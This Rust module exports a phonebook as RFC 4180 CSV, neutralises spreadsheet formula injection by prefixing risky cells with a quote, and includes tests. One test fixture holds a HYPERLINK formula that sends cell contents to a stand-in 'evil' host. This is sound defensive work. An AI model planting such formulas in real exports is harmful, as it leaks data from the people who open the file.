//! CSV per RFC 4180: header `name,number`, CRLF line ends, a field quoted when it holds a
//! comma, a double quote, CR or LF (quotes doubled inside). UTF-8 without a byte order mark.
//!
//! Names are chosen by strangers on the sign-up page, and people open this file in
//! spreadsheets, which run a cell that starts with `=`, `+`, `-` or `@` as a formula
//! (`=HYPERLINK(...)`, DDE). Such a cell, and one starting with a tab or CR (which some
//! spreadsheets strip before looking), gets a leading `'`, which spreadsheets show as text
//! and hide (OWASP "CSV Injection"). An international number `+49...` gets one too.

use super::Phonebook;

/// Renders the book as CSV with the header `name,number`.
pub fn render(book: &Phonebook) -> String {
    let mut out = String::from("name,number\r\n");
    for entry in book.entries() {
        push_field(&mut out, &entry.name);
        out.push(',');
        push_field(&mut out, &entry.number);
        out.push_str("\r\n");
    }
    out
}

/// First characters that make a spreadsheet evaluate a cell.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn push_field(out: &mut String, field: &str) {
    let neutral;
    let field = if field.starts_with(FORMULA_STARTS) {
        neutral = format!("'{field}");
        neutral.as_str()
    } else {
        field
    };
    if field.contains([',', '"', '\r', '\n']) {
        out.push('"');
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::phonebook::test_support::nasty_book;
    use crate::phonebook::{Entry, Phonebook};

    // Format: RFC 4180, "Common Format and MIME Type for Comma-Separated Values (CSV) Files",
    // https://www.rfc-editor.org/rfc/rfc4180 (section 2: CRLF records, optional header,
    // fields with commas, quotes or line breaks enclosed in double quotes, quotes doubled).
    // Checked with the csv crate's reader.
    #[test]
    fn header_and_records_read_back_with_an_independent_reader() {
        let mut book_entries = nasty_book().entries().to_vec();
        book_entries.push(Entry::extension("two\r\nlines", "4716"));
        let book = Phonebook::new(book_entries);
        let out = render(&book);
        assert!(out.starts_with("name,number\r\n"));
        assert!(out.ends_with("\r\n"));

        let mut reader = ::csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(out.as_bytes());
        let headers = reader.headers().unwrap().clone();
        assert_eq!(headers.iter().collect::<Vec<_>>(), ["name", "number"]);
        let records: Vec<::csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(records.len(), book.len());
        for (record, entry) in records.iter().zip(book.entries()) {
            assert_eq!(record.len(), 2);
            assert_eq!(&record[0], entry.name);
            assert_eq!(&record[1], entry.number);
        }
    }

    #[test]
    fn cells_a_spreadsheet_would_run_start_with_a_quote() {
        let book = Phonebook::new([
            Entry::extension("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "4711"),
            Entry::extension("+SUM(1)", "4712"),
            Entry::extension("-2+3", "4713"),
            Entry::extension("@cmd", "4714"),
            Entry::extension("\tTab", "4715"),
            Entry::extension("\r=CR", "4716"),
            Entry::extension("Plain = Name", "4717"),
            Entry::extension("Intl", "+4930123"),
        ]);
        let out = render(&book);
        let mut reader = ::csv::Reader::from_reader(out.as_bytes());
        let cells: Vec<(String, String)> = reader
            .records()
            .map(|r| {
                let r = r.unwrap();
                (r[0].to_string(), r[1].to_string())
            })
            .collect();
        let name_of = |number: &str| {
            cells
                .iter()
                .find(|(_, n)| n == number)
                .map(|(name, _)| name.clone())
                .unwrap()
        };
        assert_eq!(name_of("4711"), "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
        assert_eq!(name_of("4712"), "'+SUM(1)");
        assert_eq!(name_of("4713"), "'-2+3");
        assert_eq!(name_of("4714"), "'@cmd");
        assert_eq!(name_of("4715"), "'\tTab");
        assert_eq!(name_of("4716"), "'\r=CR");
        assert_eq!(
            name_of("4717"),
            "Plain = Name",
            "only the first character matters"
        );
        assert!(cells
            .iter()
            .any(|(n, num)| n == "Intl" && num == "'+4930123"));
        for (name, number) in &cells {
            for cell in [name, number] {
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
            }
        }
    }

    #[test]
    fn quotes_only_when_needed() {
        let book = Phonebook::new([
            Entry::extension("Plain Name", "1"),
            Entry::extension("\"Quote\" O'Brien", "2"),
        ]);
        assert_eq!(
            render(&book),
            "name,number\r\n\"\"\"Quote\"\" O'Brien\",2\r\nPlain Name,1\r\n"
        );
    }
}
